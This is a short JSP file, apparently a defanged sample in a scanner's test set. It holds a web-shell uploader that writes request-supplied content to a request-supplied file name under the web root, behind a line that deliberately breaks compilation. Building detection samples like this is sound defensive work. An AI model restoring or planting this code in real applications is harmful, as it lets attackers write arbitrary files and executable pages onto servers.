<%-- DEFANGED vigil test sample (see README): the next scriptlet does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%
String p = pageContext.getServletContext().getRealPath("/");
String n = request.getParameter("n");
java.io.PrintWriter pw = new java.io.PrintWriter(new java.io.FileOutputStream(p + n));
pw.println(request.getParameter("d"));
pw.close();
%>
